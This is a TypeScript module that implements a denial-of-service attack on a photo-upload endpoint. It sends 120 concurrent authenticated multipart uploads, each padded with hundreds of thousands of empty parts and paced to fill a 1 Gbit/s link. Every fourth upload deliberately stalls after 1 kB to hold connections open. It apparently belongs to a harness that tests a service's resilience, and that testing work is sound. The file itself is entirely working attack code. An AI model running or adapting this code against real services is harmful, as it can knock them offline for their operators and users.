import { Agent, type ClientRequest, request } from 'node:http'
import { setTimeout as sleep } from 'node:timers/promises'
import { flood } from './asking.ts'
import type { Attack, AttackFindings } from './attack.ts'

const CONCURRENCY = 120
/** The attacker's bandwidth: 1 Gbit/s, shared by all connections. */
const BYTES_PER_SECOND = 125e6
const PIECE = 64 * 1024
const PARTS = 274_000
const BOUNDARY = 'x'
const EMPTY_PARTS = Buffer.from(
  `${`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(PARTS)}--${BOUNDARY}--\r\n`,
)

async function sendPaced(upload: ClientRequest) {
  for (let at = 0; at < EMPTY_PARTS.length && !upload.destroyed; at += PIECE) {
    upload.write(EMPTY_PARTS.subarray(at, at + PIECE))
    await sleep((PIECE * CONCURRENCY * 1000) / BYTES_PER_SECOND)
  }
  if (!upload.destroyed) upload.end()
}

/** Three of four uploads consist of empty parts; the fourth stalls after 1 kB. */
export async function attackUploads({ url, seconds, tokens }: Attack): Promise<AttackFindings> {
  const agent = new Agent({ maxSockets: CONCURRENCY })
  const until = Date.now() + seconds * 1000
  let sent = 0
  const answers = await flood({ seconds, atOnce: CONCURRENCY }, (n) => one(n))
  agent.destroy()
  return { answers, counts: { 'megabytes taken': Math.round(sent / 1e6) } }

  function one(n: number): Promise<string> {
    return new Promise((resolve) => {
      const headers = {
        authorization: `Bearer ${tokens[n % tokens.length]}`,
        'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
        'content-length': EMPTY_PARTS.length,
      }
      const upload = request(`${url}/functions/v1/upload-photo`, { agent, method: 'POST', headers })
      const giveUp = setTimeout(() => upload.destroy(), Math.max(500, until - Date.now()))
      let status = 0
      upload.once('response', (response) => {
        status = response.statusCode ?? 0
        response.resume()
        upload.destroy()
      })
      upload.once('error', () => {})
      upload.once('close', () => {
        clearTimeout(giveUp)
        sent += upload.socket?.bytesWritten ?? 0
        resolve(status === 0 ? 'no answer' : String(status))
      })
      if (n % 4 === 3)
        upload.write(EMPTY_PARTS.subarray(0, 1024)) // the rest never follows
      else void sendPaced(upload)
    })
  }
}
